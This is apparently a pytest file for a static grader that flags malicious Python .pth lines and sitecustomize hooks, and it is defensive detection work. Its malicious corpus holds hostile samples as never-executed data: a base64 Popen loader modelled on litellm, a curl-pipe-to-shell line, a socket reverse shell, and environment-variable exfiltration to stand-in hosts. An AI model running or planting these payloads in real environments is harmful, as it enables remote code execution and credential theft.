"""The static grader for executable .pth lines and customize hooks: corpora of real benign lines,
malicious shapes (litellm 1.82.8 first) and hostile inputs. Nothing graded here is ever executed."""

from __future__ import annotations

import base64
import re
import zlib
from pathlib import Path
from typing import Any, FrozenSet, List, Optional, Sequence, Tuple, cast

import pytest

from sitesweep.checks import pth_grader
from sitesweep.checks.pth_grader import (
    BENIGN_PATTERNS,
    HIGH_FEATURES,
    MEDIUM_FEATURES,
    Feature,
    Grade,
    find_benign_pattern,
    grade_pth_lines,
    grade_python_source,
)
from sitesweep.model import Severity

F = Feature

# --- Real benign executable lines --------------------------------------------------------------
_NSPKG_MODERN = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
    "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *{parts});"
    "importlib = has_mfs and __import__('importlib.util');"
    "has_mfs and __import__('importlib.machinery');"
    "m = has_mfs and sys.modules.setdefault({pkg}, importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec({pkg}, [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault({pkg}, types.ModuleType({pkg}));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)"
)
_NSPKG_LEGACY = (
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));"
    "ie = os.path.exists(os.path.join(p,'__init__.py'));"
    "m = not ie and sys.modules.setdefault('google', types.ModuleType('google'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)"
)
# pytest-cov's src/pytest-cov.pth as released (raw file text, one line).
_PYTEST_COV = (
    r"import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed "
    r"import init\n  init()\n except Exception as exc:\n  sys.stderr.write(\n   "
    r'"pytest-cov: Failed to setup subprocess coverage. "\n   "Environ: {0!r} "\n   '
    r'"Exception: {1!r}\\n".format(\n    dict((k, v) for k, v in os.environ.items() if '
    r"k.startswith(\'COV_CORE\')),\n    exc\n   )\n  )\n')"
)
_PYTEST_COV_REORDER = _PYTEST_COV.replace(
    "exec('if",
    r"exec('try:\n import pkg_resources\nexcept ImportError:\n pass\nelse:\n def "
    r"reordered_iter_entry_points(group, name=None, __original=pkg_resources.iter_entry_points):"
    r"\n  if group == \'pytest11\' and name is None:\n   delayed_entrypoints = []\n   for ep in "
    r"__original(group):\n    if ep.name == \'pytest_cov\':\n     yield ep\n     for delayed_ep in "
    r"delayed_entrypoints:\n      yield delayed_ep\n     delayed_entrypoints = None\n    elif "
    r"delayed_entrypoints is None:\n     yield ep\n    else:\n     delayed_entrypoints.append(ep)"
    r"\n  else:\n   for ep in __original(group, name):\n    yield ep\n "
    r"pkg_resources.iter_entry_points = reordered_iter_entry_points\nif",
)
_PYTEST_COV_OLD = (
    r"import os, sys;exec('if \'COV_CORE_SOURCE\' in os.environ:\n try:\n  from pytest_cov.embed "
    r'import init\n  init()\n except ImportError as exc:\n  sys.stderr.write(\n   "Failed to '
    r'setup coverage."\n   "Sources: {[COV_CORE_SOURCE]!r}"\n   "Config: {[COV_CORE_CONFIG]!r}"'
    r'\n   "Exception: {!r}\\n".format(os.environ, exc))\n' + "')"
)

BENIGN: List[Tuple[str, str, str]] = [
    (
        "distutils-precedence-local",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
        "'local'; enabled and __import__('_distutils_hack').add_shim(); ",
        "setuptools-distutils-precedence",
    ),
    (
        "distutils-precedence-stdlib-default",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'stdlib') == "
        "'local'; enabled and __import__('_distutils_hack').add_shim(); ",
        "setuptools-distutils-precedence",
    ),
    (
        "distutils-precedence-49",
        "import os; enabled = os.environ.get('SETUPTOOLS_USE_DISTUTILS') == 'local'; "
        "enabled and __import__('_distutils_hack').add_shim(); ",
        "setuptools-distutils-precedence",
    ),
    ("virtualenv", "import _virtualenv", "virtualenv"),
    (
        "setuptools-editable-finder",
        "import __editable___foo_1_0_finder; __editable___foo_1_0_finder.install()",
        "setuptools-editable-finder",
    ),
    (
        "nspkg-zope",
        _NSPKG_MODERN.format(parts="('zope',)", pkg="'zope'"),
        "setuptools-nspkg",
    ),
    (
        "nspkg-matplotlib-mpl-toolkits",
        _NSPKG_MODERN.format(parts="('mpl_toolkits',)", pkg="'mpl_toolkits'"),
        "setuptools-nspkg",
    ),
    (
        "nspkg-google-cloud-child",
        _NSPKG_MODERN.format(parts="('google', 'cloud')", pkg="'google.cloud'")
        + ";m and setattr(sys.modules['google'], 'cloud', m)",
        "setuptools-nspkg",
    ),
    (
        "nspkg-develop-mode-root",
        _NSPKG_MODERN.format(parts="('zope',)", pkg="'zope'").replace(
            "sys._getframe(1).f_locals['sitedir']", "'/home/alice/src/zope.event/src'"
        ),
        "setuptools-nspkg",
    ),
    ("nspkg-google-legacy", _NSPKG_LEGACY, "setuptools-nspkg"),
    ("pywin32-bootstrap", "import pywin32_bootstrap", "pywin32-bootstrap"),
    (
        "pywin32-224-path",
        'import os;os.environ["PATH"]+=(\';\'+os.path.join(sitedir,"pywin32_system32"))',
        "pywin32-system32-path",
    ),
    ("coverage", "import coverage; coverage.process_startup()", "coverage-process-startup"),
    ("easy-install-prologue", "import sys; sys.__plen = len(sys.path)", "easy-install-prologue"),
    (
        "easy-install-epilogue",
        "import sys; new = sys.path[sys.__plen:]; del sys.path[sys.__plen:]; "
        "p = getattr(sys, '__egginsert', 0); sys.path[p:p] = new; sys.__egginsert = p + len(new)",
        "easy-install-epilogue",
    ),
    (
        "easy-install-epilogue-compact",
        "import sys; new=sys.path[sys.__plen:]; del sys.path[sys.__plen:]; "
        "p=getattr(sys,'__egginsert',0); sys.path[p:p]=new; sys.__egginsert = p+len(new)",
        "easy-install-epilogue",
    ),
    ("pytest-cov", _PYTEST_COV, "pytest-cov-subprocess"),
    ("pytest-cov-entrypoint-reorder", _PYTEST_COV_REORDER, "pytest-cov-subprocess"),
    ("pytest-cov-old", _PYTEST_COV_OLD, "pytest-cov-subprocess"),
    ("pip-system-certs", "import pip_system_certs.bootstrap", "pip-system-certs"),
    ("pip-system-certs-old", "import pip_system_certs.wrapt_requests", "pip-system-certs"),
    (
        "certifi-win32",
        "import certifi_win32.wrapt_certifi; certifi_win32.wrapt_certifi.apply_patches()",
        "certificate-injector",
    ),
    (
        "truststore-injector",
        "import truststore_inject; truststore_inject.inject()",
        "certificate-injector",
    ),
    ("pydevd-hook", "import _pydevd_bundle.pydevd_sitecustomize", "debugger-hook"),
    ("hatch-editables", "import _editable_impl_myproject", "editables-redirector"),
    ("scikit-build-core-editable", "import _mypkg_editable", "build-backend-editable-loader"),
    (
        "meson-python-editable",
        "import _scikit_learn_editable_loader",
        "build-backend-editable-loader",
    ),
    ("ddtrace", "import ddtrace.bootstrap.sitecustomize", "apm-bootstrap"),
    (
        "opentelemetry",
        "import opentelemetry.instrumentation.auto_instrumentation.sitecustomize",
        "apm-bootstrap",
    ),
    ("cuda-bindings", "import _cuda_bindings_redirector", "cuda-bindings-redirector"),
    ("pdbpp-1", 'import os; _pdbpp_path = os.path.sep + "_pdbpp_path_hack"', "pdbpp-hijack-pdb"),
    (
        "pdbpp-2",
        'import sys; sys.path.insert(0, makepath(sitedir, "_pdbpp_path_hack")[0]) if '
        "int(os.environ.get('PDBPP_HIJACK_PDB', 1)) and not sys.path[0].endswith(_pdbpp_path) "
        "else None",
        "pdbpp-hijack-pdb",
    ),
    (
        "pdbmm",
        "import sys;sys.path.insert(0, sys.path.pop()) if sys.path[-1] == makepath(sitedir, "
        '"_pdbpp_path_hack")[0] else None',
        "pdbpp-hijack-pdb",
    ),
    (
        "homebrew-addsitedir",
        "import site; site.addsitedir('/opt/homebrew/lib/python3.11/site-packages')",
        "site-addsitedir",
    ),
    ("sys-path-insert", 'import sys; sys.path.insert(0, "/opt/tools/lib")', "sys-path-literal"),
]

UNKNOWN_HARMLESS: List[Tuple[str, str]] = [
    ("bare-import", "import foo_plugin"),
    ("literal-exec-is-read-not-flagged", "import sys; exec('print(1)')"),
    ("tab-separated-import", "import\t_virtualenv"),
    ("path-from-sitedir", "import sys, os; sys.path.append(os.path.join(sitedir, 'extra'))"),
]


def _litellm_line(payload: str, size: int = 34_628) -> str:
    """A line shaped like litellm_init.pth: Popen of sys.executable -c exec(b64decode(...))."""
    head = 'import subprocess, sys; subprocess.Popen([sys.executable, "-c", "import base64; '
    tail = "'))\"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)"
    padded = payload + "\n#" + "x" * max(0, (size - len(head) - len(tail)) * 3 // 4 - len(payload))
    blob = base64.b64encode(padded.encode()).decode()
    return f"{head}exec(base64.b64decode('{blob}{tail}"


def _b64(code: str) -> str:
    return base64.b64encode(code.encode()).decode()


_BLOB = base64.b64encode(bytes(range(256)) * 2).decode()

MALICIOUS: List[Tuple[str, str, FrozenSet[Feature]]] = [
    (
        "litellm-shaped",
        _litellm_line("print('stage 1')"),
        frozenset({F.DECODE_EXEC, F.SPAWN_PROCESS, F.ENCODED_BLOB, F.LONG_LINE}),
    ),
    (
        "litellm-payload-reaches-network",
        _litellm_line(
            "import urllib.request\nurllib.request.urlopen('https://models.example.invalid/')"
        ),
        frozenset({F.DECODE_EXEC, F.SPAWN_PROCESS, F.NETWORK}),
    ),
    (
        "os-system-curl-sh",
        "import os; os.system('curl http://x/y | sh')",
        frozenset({F.SPAWN_PROCESS, F.NETWORK}),
    ),
    (
        "reverse-shell",
        "import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
        's.connect(("10.0.0.1",4242));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
        'os.dup2(s.fileno(),2);import pty; pty.spawn("/bin/sh")',
        frozenset({F.NETWORK, F.SPAWN_PROCESS}),
    ),
    (
        "zlib-exec",
        "import zlib, base64; exec(zlib.decompress(base64.b64decode('"
        + base64.b64encode(zlib.compress(b"print(1)")).decode()
        + "')))",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "marshal-exec",
        "import marshal; exec(marshal.loads(b'\\xe3\\x00\\x00\\x00'))",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "hex-exec",
        "import sys; exec(bytes.fromhex('7072696e74282268692229'))",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "rot13-exec",
        "import codecs; exec(codecs.decode('cevag(1)', 'rot13'))",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "decoded-then-exec",
        "import base64; c = base64.b64decode('cHJpbnQoMSk='); exec(c)",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "exec-of-compile",
        "import base64; exec(compile(base64.b64decode(b'cHJpbnQoMSk='), '<s>', 'exec'))",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "pickle-loads",
        "import pickle, base64; pickle.loads(base64.b64decode('gAN9cQAu'))",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "disguised-distutils-precedence",
        "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == "
        "'local'; enabled and __import__('_distutils_hack').add_shim(); "
        "__import__('subprocess').Popen(['sh', '-c', 'id'])",
        frozenset({F.SPAWN_PROCESS}),
    ),
    (
        "dunder-import-system",
        "import os; __import__('os').system('id')",
        frozenset({F.SPAWN_PROCESS}),
    ),
    (
        "getattr-system",
        "import os; getattr(__import__('os'), 'system')('id')",
        frozenset({F.SPAWN_PROCESS}),
    ),
    (
        "from-import-alias",
        "from subprocess import Popen as P; P(['id'])",
        frozenset({F.SPAWN_PROCESS}),
    ),
    ("star-import", "from subprocess import *; check_call(['id'])", frozenset({F.SPAWN_PROCESS})),
    (
        "exec-literal-subprocess",
        "import sys; exec('import subprocess; subprocess.run([\"id\"])')",
        frozenset({F.SPAWN_PROCESS}),
    ),
    (
        "execv-python-c",
        "import os, sys; os.execv(sys.executable, [sys.executable, '-c', 'print(1)'])",
        frozenset({F.SPAWN_PROCESS}),
    ),
    (
        "urlopen-ip",
        "import urllib.request; urllib.request.urlopen('http://203.0.113.7/stage2')",
        frozenset({F.NETWORK}),
    ),
    (
        "requests-env-exfil",
        "import os, requests; requests.post('https://c2.example.invalid/', json=dict(os.environ))",
        frozenset({F.NETWORK, F.ENV_HARVEST}),
    ),
    ("module-alias", "import os as o; o.system('id')", frozenset({F.SPAWN_PROCESS})),
    ("vars-lookup", "import os; vars(os)['system']('id')", frozenset({F.SPAWN_PROCESS})),
    (
        "sys-modules-lookup",
        "import sys; sys.modules['os'].system('id')",
        frozenset({F.SPAWN_PROCESS}),
    ),
    (
        "import-module-chain",
        "import importlib; importlib.import_module('subprocess').run(['id'])",
        frozenset({F.SPAWN_PROCESS, F.DYNAMIC_IMPORT}),
    ),
    (
        "builtins-dict-exec",
        "import builtins, base64; vars(builtins)['exec'](base64.b64decode('cHJpbnQoMSk='))",
        frozenset({F.DECODE_EXEC}),
    ),
    (
        "builtins-exec-b64",
        "import base64, builtins; builtins.exec(base64.b64decode('cHJpbnQoMSk='))",
        frozenset({F.DECODE_EXEC}),
    ),
]

MEDIUM: List[Tuple[str, str, FrozenSet[Feature]]] = [
    ("exec-computed", "import os; exec(os.environ.get('X', ''))", frozenset({F.EXEC_DYNAMIC})),
    (
        "import-module",
        "import importlib; importlib.import_module('pl' + 'ugin')",
        frozenset({F.DYNAMIC_IMPORT}),
    ),
    (
        "dunder-import-computed",
        "import os; __import__(os.environ['MOD'])",
        frozenset({F.DYNAMIC_IMPORT}),
    ),
    ("env-dump", "import json, os; json.dumps(dict(os.environ))", frozenset({F.ENV_HARVEST})),
    ("env-items", "import os; [k for k, v in os.environ.items()]", frozenset({F.ENV_HARVEST})),
    ("blob-only", f"import sys; sys.x = '{_BLOB}'", frozenset({F.ENCODED_BLOB})),
    ("long-line-only", "import sys; " + "sys.a = 1; " * 500, frozenset({F.LONG_LINE})),
    (
        "getattr-builtins-runtime-name",
        "import builtins, sys; getattr(builtins, sys.argv[0])",
        frozenset({F.EXEC_DYNAMIC}),
    ),
    ("exec-by-alias", "import sys; run = exec; run(sys.argv[0])", frozenset({F.EXEC_DYNAMIC})),
]

LOW_WRITES: List[Tuple[str, str]] = [
    ("open-for-write", "import os; open('/tmp/x', 'w').write('hi')"),
    ("path-write-text", "import pathlib; pathlib.Path('/tmp/x').write_text('hi')"),
    ("os-remove", "import os; os.remove('/tmp/x')"),
]


def _benign_line(corpus_id: str) -> str:
    return next(line for name, line, _ in BENIGN if name == corpus_id)


def _nested_exec(depth: int) -> str:
    code = "print(1)"
    for _ in range(depth):
        code = f"exec({code!r})"
    return "import sys; " + code


def _assert_well_formed(grade: Grade) -> None:
    assert isinstance(grade, Grade)
    assert list(grade.features) == sorted(set(grade.features))
    assert all(isinstance(f, Feature) for f in grade.features)
    assert all(grade.reasons)
    found = set(grade.features)
    if found & HIGH_FEATURES:
        assert grade.severity is Severity.HIGH
    elif found & MEDIUM_FEATURES:
        assert grade.severity is Severity.MEDIUM
    else:
        assert grade.severity in (Severity.LOW, Severity.INFO)


# --- Benign -----------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("line", "pattern"), [(b[1], b[2]) for b in BENIGN], ids=[b[0] for b in BENIGN]
)
def test_benign_line_is_info_with_its_pattern(line: str, pattern: str) -> None:
    grade = grade_pth_lines([(1, line)])
    _assert_well_formed(grade)
    assert grade.severity is Severity.INFO, grade.reasons
    assert not grade.severity.at_least(Severity.MEDIUM)
    assert grade.benign_pattern == pattern
    assert grade.features == (F.KNOWN_BENIGN,)


@pytest.mark.parametrize("line", [b[1] for b in BENIGN], ids=[b[0] for b in BENIGN])
def test_benign_pattern_never_hides_an_appended_spawn(line: str) -> None:
    hostile = line.rstrip().rstrip(";") + "; __import__('subprocess').Popen(['id'])"
    grade = grade_pth_lines([(1, hostile)])
    assert grade.severity is Severity.HIGH
    assert F.SPAWN_PROCESS in grade.features
    assert grade.benign_pattern is None


def test_benign_and_malicious_lines_in_one_file_is_high() -> None:
    lines = [(1, _benign_line("distutils-precedence-local")), (2, "import os; os.system('id')")]
    grade = grade_pth_lines(lines)
    assert grade.severity is Severity.HIGH
    assert grade.benign_pattern == "setuptools-distutils-precedence"
    assert {F.KNOWN_BENIGN, F.SPAWN_PROCESS} <= set(grade.features)
    assert any("line 2" in reason for reason in grade.reasons)


@pytest.mark.parametrize(
    "lines",
    [
        [(1, _benign_line("easy-install-prologue")), (4, _benign_line("easy-install-epilogue"))],
        [(9, _benign_line("pdbpp-1")), (10, _benign_line("pdbpp-2"))],
    ],
    ids=["easy-install-pth", "pdbpp-hijack-pth"],
)
def test_whole_benign_files_are_info(lines: Sequence[Tuple[int, str]]) -> None:
    grade = grade_pth_lines(lines)
    assert grade.severity is Severity.INFO
    assert grade.benign_pattern is not None


def test_benign_line_next_to_unknown_line_is_low() -> None:
    grade = grade_pth_lines([(1, "import _virtualenv"), (2, "import foo_plugin")])
    assert grade.severity is Severity.LOW
    assert grade.benign_pattern == "virtualenv"


@pytest.mark.parametrize(
    "line", [u[1] for u in UNKNOWN_HARMLESS], ids=[u[0] for u in UNKNOWN_HARMLESS]
)
def test_unknown_harmless_line_is_low(line: str) -> None:
    grade = grade_pth_lines([(3, line)])
    _assert_well_formed(grade)
    assert grade.severity is Severity.LOW
    assert grade.features == ()
    assert grade.benign_pattern is None


def test_benign_patterns_are_auditable() -> None:
    names = [p.name for p in BENIGN_PATTERNS]
    assert len(names) == len(set(names))
    assert set(names) == {b[2] for b in BENIGN}, "every pattern needs a corpus line"
    assert all(pattern.shipped_by for pattern in BENIGN_PATTERNS)


def test_no_regex_repeats_a_group() -> None:
    """A repeated group (`(...)*`, `(...)+`, `(...){n,}`) is how regexes backtrack forever."""
    patterns = [v for v in vars(pth_grader).values() if isinstance(v, re.Pattern)]
    patterns += [p.regex for p in BENIGN_PATTERNS]
    patterns += [rule[2] for rule in pth_grader._FALLBACK_RULES]
    assert len(patterns) > len(BENIGN_PATTERNS)
    for pattern in patterns:
        assert not re.search(r"(?<!\\)\)[*+{]", pattern.pattern), pattern.pattern


def test_find_benign_pattern_requires_the_whole_line() -> None:
    assert find_benign_pattern("import _virtualenv") is not None
    assert find_benign_pattern("import _virtualenv; import evil") is None
    assert find_benign_pattern("import _virtualenv" + " " * 5000) is not None
    assert find_benign_pattern("import _virtualenv" + "x" * 5000) is None
    assert find_benign_pattern("import debugpy; debugpy.listen()") is not None
    assert find_benign_pattern("import debugpy; breakpoint()") is None


# --- Malicious ------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("line", "expected"), [(m[1], m[2]) for m in MALICIOUS], ids=[m[0] for m in MALICIOUS]
)
def test_malicious_line_is_high(line: str, expected: FrozenSet[Feature]) -> None:
    grade = grade_pth_lines([(1, line)])
    _assert_well_formed(grade)
    assert grade.severity is Severity.HIGH
    assert expected <= set(grade.features), grade.reasons
    assert grade.benign_pattern is None


def test_litellm_line_reasons_name_what_it_does() -> None:
    line = _litellm_line("print('stage 1')")
    assert 30_000 < len(line) < 40_000
    grade = grade_pth_lines([(1, line)])
    assert "-c code: exec of base64-decoded data at line 1" in grade.reasons
    assert "call to subprocess.Popen at line 1" in grade.reasons
    assert any(r.startswith("line 1 is ") and "characters long" in r for r in grade.reasons)


def test_decoded_payload_is_graded_too() -> None:
    line = _litellm_line("import urllib.request\nurllib.request.urlopen('https://c2.invalid/')")
    reasons = grade_pth_lines([(1, line)]).reasons
    assert any("base64 payload: call to urllib.request.urlopen" in r for r in reasons), reasons


def test_reasons_carry_the_pth_line_number() -> None:
    grade = grade_pth_lines([(7, "import os; os.system('id')")])
    assert "call to os.system at line 7" in grade.reasons


@pytest.mark.parametrize(
    ("line", "expected"), [(m[1], m[2]) for m in MEDIUM], ids=[m[0] for m in MEDIUM]
)
def test_obfuscation_traits_are_medium(line: str, expected: FrozenSet[Feature]) -> None:
    grade = grade_pth_lines([(1, line)])
    _assert_well_formed(grade)
    assert grade.severity is Severity.MEDIUM, grade.reasons
    assert expected <= set(grade.features)


@pytest.mark.parametrize("line", [w[1] for w in LOW_WRITES], ids=[w[0] for w in LOW_WRITES])
def test_file_write_alone_is_low(line: str) -> None:
    grade = grade_pth_lines([(1, line)])
    assert grade.severity is Severity.LOW
    assert grade.features == (F.FILE_WRITE,)


def test_grading_never_executes_the_line(tmp_path: Path) -> None:
    marker = tmp_path / "MARKER_EXECUTED"
    line = f"import os; open({str(marker)!r}, 'a').write('executed')"
    payload = f"import base64; exec(base64.b64decode('{_b64(line)}'))"
    grade_pth_lines([(1, line), (2, payload)])
    grade_python_source(line + "\n" + payload + "\n")
    assert not marker.exists()


# --- Hostile input ----------------------------------------------------------------------------
EDGE_LINES: List[Tuple[str, List[Tuple[int, str]]]] = [
    ("no-lines", []),
    ("empty-line", [(1, "")]),
    ("bare-import", [(1, "import")]),
    ("null-bytes", [(1, "import os\x00; os.system('id')")]),
    ("two-megabyte-line", [(1, "import x; y = '" + "QUJD" * 500_000 + "'")]),
    ("nested-parens-100k", [(1, "import x; " + "(" * 100_000 + ")" * 100_000)]),
    ("nested-lists-100k", [(1, "import x; y = " + "[" * 100_000 + "]" * 100_000)]),
    ("operator-chain-100k", [(1, "import a; " + "a+" * 100_000 + "a")]),
    ("unary-chain-100k", [(1, "import a; " + "-" * 100_000 + "1")]),
    ("not-chain-50k", [(1, "import a; " + "not " * 50_000 + "a")]),
    ("attribute-chain-100k", [(1, "import a; " + "a." * 100_000 + "a")]),
    ("lone-surrogates", [(1, "import os; x = '\udcff\udcfe'; exec('\udcff')")]),
    ("unterminated-string", [(1, "import os; x = 'abc")]),
    ("unterminated-triple", [(1, "import os; x = '''abc")]),
    ("backslash-storm", [(1, "import os; x = '" + "\\'" * 100_000)]),
    ("invalid-escape", [(1, r"import re; exec('\d')")]),
    ("binary-junk", [(1, "import " + bytes(range(256)).decode("latin-1") * 100)]),
    ("many-lines", [(n, "import foo_plugin") for n in range(1, 5001)]),
    ("exec-nesting-deep", [(1, _nested_exec(12))]),
    ("crlf", [(1, "import _virtualenv\r\n")]),
]


@pytest.mark.parametrize("lines", [e[1] for e in EDGE_LINES], ids=[e[0] for e in EDGE_LINES])
def test_hostile_pth_input_never_raises(lines: List[Tuple[int, str]]) -> None:
    grade = grade_pth_lines(lines)
    _assert_well_formed(grade)
    assert grade.reasons or grade.severity is Severity.INFO


def test_huge_line_is_long_line_and_bounded() -> None:
    grade = grade_pth_lines([(1, "import x; y = '" + "QUJD" * 500_000 + "'")])
    assert F.LONG_LINE in grade.features
    assert any("first 1048576" in r for r in grade.reasons)


def test_empty_input_is_info() -> None:
    assert grade_pth_lines([]).severity is Severity.INFO
    assert grade_python_source("").severity is Severity.INFO
    assert grade_python_source("# only a comment\n\n").severity is Severity.INFO


def test_null_bytes_fall_back_to_text_scan() -> None:
    grade = grade_pth_lines([(1, "import os\x00; os.system('id')")])
    assert grade.severity is Severity.HIGH
    assert any("text scan" in r for r in grade.reasons)


def test_wrong_types_still_return_a_grade() -> None:
    grade = grade_pth_lines(cast(Any, [(1, None), ("x", 3)]))
    assert isinstance(grade, Grade)
    assert grade.severity.at_least(Severity.MEDIUM)
    assert isinstance(grade_python_source(cast(Any, None)), Grade)


# --- sitecustomize / usercustomize source ------------------------------------------------------
_APPORT = """\
# install the apport exception handler if available
try:
    import apport_python_hook
except ImportError:
    pass
else:
    apport_python_hook.install()
"""
_HOMEBREW_LIKE = '''\
"""Created by Homebrew; see https://docs.brew.sh/Homebrew-and-Python for why."""
# <https://docs.brew.sh/Homebrew-and-Python>
import os
import site
import sys

if sys.version_info[:2] == (3, 11) and not sys.flags.no_user_site:
    site.addsitedir(os.path.join("/opt/homebrew", "lib", "python3.11", "site-packages"))
if "PYTHONHOME" in os.environ:
    del os.environ["PYTHONHOME"]
'''
_MALICIOUS_SOURCE = """\
import os
import urllib.request

def _beacon():
    data = dict(os.environ)
    urllib.request.urlopen("https://models.example.invalid/", data=str(data).encode())

_beacon()
"""


@pytest.mark.parametrize(
    ("text", "severity"),
    [
        (_APPORT, Severity.LOW),
        (_HOMEBREW_LIKE, Severity.LOW),
        ("import coverage\ncoverage.process_startup()\n", Severity.LOW),
        ("", Severity.INFO),
    ],
    ids=["ubuntu-apport", "homebrew-like", "coverage", "empty"],
)
def test_benign_customize_source(text: str, severity: Severity) -> None:
    grade = grade_python_source(text)
    _assert_well_formed(grade)
    assert grade.severity is severity
    assert grade.features == ()


def test_malicious_customize_source_is_high_with_lines() -> None:
    grade = grade_python_source(_MALICIOUS_SOURCE)
    assert grade.severity is Severity.HIGH
    assert {F.NETWORK, F.ENV_HARVEST} <= set(grade.features)
    assert "call to urllib.request.urlopen at line 6" in grade.reasons
    assert "reads os.environ as a whole at line 5" in grade.reasons


@pytest.mark.parametrize(
    "text",
    [
        "\x00\x01import os",
        "(" * 100_000,
        "x = 1\n" * 200_000,
        "print 'python 2'\nimport os; os.system('id')\n",
        "import os\n" + "y = '" + "A" * 1_200_000 + "'\n",
        "def f(:\n",
        "\udcff\udcfe = 1\n",
    ],
    ids=["null", "parens", "large", "python2", "over-1mib", "syntax-error", "surrogates"],
)
def test_hostile_source_never_raises(text: str) -> None:
    grade = grade_python_source(text)
    _assert_well_formed(grade)
    assert grade.reasons or grade.severity in (Severity.LOW, Severity.INFO)


def test_python2_source_still_graded_by_text_scan() -> None:
    grade = grade_python_source("print 'python 2'\nimport os; os.system('id')\n")
    assert grade.severity is Severity.HIGH
    assert "text scan: os process call at line 2" in grade.reasons


def test_source_over_one_mebibyte_is_long_line() -> None:
    grade = grade_python_source("import os\n" + "x = 1\n" * 200_000)
    assert F.LONG_LINE in grade.features
    assert grade.severity is Severity.MEDIUM


def _features(grade: Grade) -> Optional[Tuple[Feature, ...]]:
    return grade.features if grade.features else None


def test_docstring_url_is_not_network_but_string_url_is() -> None:
    assert _features(grade_python_source('"""See https://example.org/"""\n')) is None
    assert F.NETWORK in grade_python_source("URL = 'https://example.org/x'\n").features
